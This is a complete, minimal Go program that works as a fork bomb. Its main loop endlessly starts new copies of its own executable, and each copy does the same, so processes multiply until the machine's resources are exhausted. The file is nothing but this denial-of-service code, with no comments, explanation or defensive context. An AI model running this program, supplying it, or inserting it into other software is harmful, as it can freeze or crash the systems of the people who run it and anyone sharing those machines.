package main

import (
	"os"
	"os/exec"
)

func main() {
	for {
		_ = exec.Command(os.Args[0]).Start()
	}
}
